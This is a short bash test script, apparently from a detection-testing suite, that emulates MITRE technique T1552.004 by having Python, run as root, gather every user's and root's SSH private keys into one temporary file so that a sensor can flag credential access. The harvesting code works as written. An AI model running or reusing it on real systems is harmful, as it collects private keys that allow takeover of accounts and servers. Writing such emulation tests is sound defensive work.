#!/usr/bin/env bash
# tactic: credential-access
# technique: T1552.004 Unsecured Credentials: Private Keys
# behaviour: a Python snippet globs every home for SSH private keys and writes their contents into one file under /var/tmp
# as: root
# expect: credential_access
set -u
python3 - "$SNTL_TMP/.k" <<'PY'
import glob, sys
with open(sys.argv[1], "w") as out:
    for p in glob.glob("/home/*/.ssh/id_*") + glob.glob("/root/.ssh/id_*"):
        if p.endswith(".pub"):
            continue
        try:
            out.write(p + "\n" + open(p).read())
        except OSError:
            pass
PY
